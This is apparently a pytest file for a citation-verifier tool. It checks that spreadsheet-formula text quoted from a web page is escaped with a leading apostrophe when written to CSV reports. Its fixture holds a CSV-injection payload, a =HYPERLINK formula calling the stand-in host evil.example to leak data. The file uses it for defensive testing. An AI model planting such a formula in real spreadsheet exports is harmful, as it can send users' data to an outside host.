"""A page sentence shaped like a spreadsheet formula (``=HYPERLINK(...)``), quoted as evidence,
is written to the batch CSV and the ``audit export`` CSV as text a spreadsheet never runs."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from typer.testing import CliRunner

from citation_verifier.cli import app
from citation_verifier.demo.loopback import LoopbackSite, Page, Route
from citation_verifier.spreadsheet import safe_cell

Serve = Callable[[Mapping[str, Route]], LoopbackSite]
FORMULA = '=HYPERLINK("https://evil.example/?leak","source")'
CLAIM = "Water boils at 100 degrees Celsius at sea level."
PAGE = (
    "<html><body><article><h1>Boiling</h1>"
    f"<p>{FORMULA} {CLAIM}</p><p>Mountains are high and the air there is thin.</p></article></body></html>"
)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_a_cell_a_spreadsheet_would_run_starts_with_an_apostrophe(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["Water boils.", 0.5, -1, None, ""])
def test_other_cells_pass_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if "HYPERLINK" in cell]


def test_batch_and_audit_csv_never_hold_a_live_formula(
    tmp_path: Path, serve: Serve, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = serve({"/formula": Page(PAGE)})
    monkeypatch.setenv("ALLOW_PRIVATE_URLS", "true")
    monkeypatch.setenv("CACHE_DIR", str(tmp_path / "cache"))
    inputs = tmp_path / "in.jsonl"
    inputs.write_text(json.dumps({"id": "=1+1", "claim": CLAIM, "urls": [site.url("/formula")]}))
    out = tmp_path / "report.csv"
    batch = CliRunner().invoke(app, ["batch", str(inputs), "--out", str(out), "--quiet"])
    assert batch.exit_code == 0, batch.output
    report = out.read_text(encoding="utf-8")
    exported = CliRunner().invoke(app, ["audit", "export", "--format", "csv"])
    assert exported.exit_code == 0, exported.output
    for text in (report, exported.stdout):
        cells = _formula_cells(text)
        assert cells, "the formula sentence should have been quoted"
        assert all(not cell.startswith("=") for cell in cells), cells
        assert FORMULA in "".join(cells)  # kept as text, not dropped
    assert next(csv.DictReader(io.StringIO(report)))["id"] == "'=1+1"
